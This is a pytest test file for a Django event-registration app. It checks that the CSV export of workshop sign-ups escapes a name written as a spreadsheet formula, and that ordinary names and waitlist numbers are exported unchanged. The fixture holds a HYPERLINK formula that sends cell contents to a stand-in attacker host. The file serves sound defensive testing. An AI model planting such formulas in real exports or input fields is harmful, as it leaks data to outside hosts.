"""The registrations export cannot be turned into formulas by what people type."""

import csv
import io

import pytest

from events import services

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'


def exported_rows(client, workshop):
    export = client.get(f"/admin/workshoppar/{workshop.pk}/anmalningar.csv")
    return list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))


def test_a_registrant_named_like_a_formula_is_exported_as_text(
    client, workshop, editor, make_person, kalmar_kommun
):
    attacker = make_person("a@kalmar.se", kalmar_kommun, first_name=FORMULA)
    attacker.last_name = ""
    attacker.save()
    services.register(workshop, attacker)
    client.force_login(editor)
    assert ["'" + FORMULA, "Kalmar", "Kommun", "Bekräftad", "", ""] in exported_rows(
        client, workshop
    )


def test_ordinary_registrants_and_queue_numbers_are_exported_unchanged(
    client, workshop, editor, make_person, kalmar_kommun
):
    for email, name in [
        ("a@kalmar.se", "Anna"),
        ("b@kalmar.se", "Bo-Göran"),
        ("c@kalmar.se", "Cia"),
    ]:
        services.register(workshop, make_person(email, kalmar_kommun, first_name=name))
    client.force_login(editor)
    rows = exported_rows(client, workshop)
    assert rows[1:] == [
        ["Anna Person", "Kalmar", "Kommun", "Bekräftad", "", ""],
        ["Bo-Göran Person", "Kalmar", "Kommun", "Bekräftad", "", ""],
        ["Cia Person", "Kalmar", "Kommun", "På väntelistan", "1", ""],
    ]
